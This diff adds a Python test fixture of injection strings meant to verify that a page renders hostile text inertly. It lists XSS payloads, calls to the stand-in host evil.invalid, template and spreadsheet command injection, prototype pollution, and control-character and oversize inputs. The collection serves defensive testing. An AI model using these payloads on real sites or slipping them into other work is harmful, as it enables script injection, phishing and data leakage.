@@ -1,0 +1,88 @@
+"""Texts that strangers and models could write to break out of a page: each must be shown as text and do nothing.
+
+`window.__pwned` is what the scripts among them would set; `evil.invalid` is where the others would call home.
+"""
+
+from __future__ import annotations
+
+CALL = "window.__pwned=1"
+HOME = "evil.invalid"
+
+PAYLOADS: dict[str, str] = {
+    "script": f"<script>{CALL}</script>",
+    "script upper case": f"<SCRIPT>{CALL}</SCRIPT>",
+    "script from elsewhere": f"<script src=//{HOME}/x.js></script>",
+    "closing the script": f"</script><script>{CALL}</script>",
+    "closing the script with a blank": f"</script ><img src=x onerror={CALL}>",
+    "closing title and style": f"</title></style></textarea></noscript><img src=x onerror={CALL}>",
+    "comment opened": f"<!-- <script> {CALL} ",
+    "comment and double escape": f"<!--<script><!--</script>{CALL}//-->",
+    "cdata": f"<![CDATA[<script>{CALL}</script>]]>",
+    "image error": f'<img src=x onerror="{CALL}">',
+    "image call": f"<img src=https://{HOME}/pixel.png?a=1>",
+    "body load": f"<body onload={CALL}>",
+    "details toggle": f"<details open ontoggle={CALL}>열림</details>",
+    "input focus": f"<input autofocus onfocus={CALL}>",
+    "marquee": f"<marquee onstart={CALL}>흐름</marquee>",
+    "attribute breakout": f'" onmouseover="{CALL}" x="',
+    "attribute breakout, single": f"' autofocus onfocus='{CALL}",
+    "unquoted attribute": f"x onclick={CALL}//",
+    "svg load": f"<svg/onload={CALL}>",
+    "svg animate": f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
+    "svg use": f"<svg><use href='https://{HOME}/x.svg#a'/></svg>",
+    "svg script": f"<svg><script>{CALL}</script></svg>",
+    "mathml": f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
+    "iframe": f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
+    "iframe javascript": f"<iframe src=javascript:{CALL}></iframe>",
+    "object data": "<object data=data:text/html,<script>parent.__pwned=1</script>></object>",
+    "embed": f"<embed src=https://{HOME}/x.swf>",
+    "meta refresh": f"<meta http-equiv=refresh content='0;url=https://{HOME}/'>",
+    "base": f"<base href=https://{HOME}/>",
+    "link stylesheet": f"<link rel=stylesheet href=https://{HOME}/x.css>",
+    "form": f"<form action=https://{HOME}/><button>보내기</button></form>",
+    "style import": f"<style>@import url(https://{HOME}/x.css);</style>",
+    "style attribute": f"<b style=\"background:url('https://{HOME}/b.png')\">굵게</b>",
+    "css breakout": f"}} body {{ background: url(https://{HOME}/c.png) }}",
+    "markdown link": f"[눌러 보세요](https://{HOME}/phish)",
+    "markdown javascript link": f"[답](javascript:{CALL})",
+    "markdown data link": "[답](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
+    "markdown image": f"![그림](https://{HOME}/i.png)",
+    "markdown image title": f'![a](https://{HOME}/i.png "x" onerror="{CALL}")',
+    "markdown reference": f"[1]: https://{HOME}/ref\n[누름][1]",
+    "autolink": f"<https://{HOME}/auto>",
+    "bare url": f"https://{HOME}/bare?q=1#item=a/b/1",
+    "code fence breakout": f"```html\n</code></pre><img src=x onerror={CALL}>\n```",
+    "code name": f"```<img/src=x/onerror={CALL}>\nx\n```",
+    "table cell": f"| a | b |\n|---|---|\n| <img src=x onerror={CALL}> | 2 |",
+    "heading": f"# <img src=x onerror={CALL}>",
+    "jinja": "{{ 7*7 }} {% for x in ''.__class__.__mro__ %}{{ x }}{% endfor %}",
+    "template literal": f"${{{CALL}}} `${{alert(1)}}`",
+    "angular": f"{{{{constructor.constructor('{CALL}')()}}}}",
+    "replacement pattern": "$& $1 $` $' %s %d {name} {n}",
+    "plotly label": f"<a href='https://{HOME}/p'>a</a><b>굵게</b><br>%{{customdata}} $x^2$",
+    "entities": "&lt;script&gt;&#60;img src=x&#62;&amp;&nbsp;&quot;",
+    "prototype": "__proto__",
+    "constructor": "constructor",
+    "prototype in json": '{"__proto__": {"polluted": true}}',
+    "tostring": "toString",
+    "bidi override": "총점 \u202e01\u202c 점 \u2066숨김\u2069\u200f",
+    "zero width": "보\u200b이지\u2060않는\ufeff글\u00ad자\u3164끝",
+    "control characters": "종\x07소리 \x08\x00\x0b\x0c\x1f\x7f\x85",
+    "ansi": "\x1b[31m빨강\x1b[0m \x1b]8;;https://evil.invalid/\x07고리\x1b]8;;\x07\x1b[2J",
+    "lone surrogates": "앞 \ud83d 뒤 \udc00 끝",
+    "tag characters": "a\U000e0041\U000e0042b",
+    "line separators": "하나\u2028둘\u2029셋\rABC",
+    "excel formula": '=HYPERLINK("https://evil.invalid/","여기")',
+    "excel command": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "excel plus": "+1+1",
+    "stacked accents": "글" + "\u0301" * 300,
+    "nested quotes": ">" * 400 + " 깊음",
+    "nested lists": "\n".join(" " * (2 * i) + "- 층" for i in range(60)),
+    "star flood": "*" * 5000 + "끝",
+    "backtick flood": "`" * 4999 + "끝",
+    "huge line": "가나다라" * 40_000,
+}
+"""Name -> text. The last ones only try the renderer's patience."""
+
+SHORT = {name: text for name, text in PAYLOADS.items() if len(text) < 200}
+"""Those that are fit for a name: of a model, a judge, a category."""
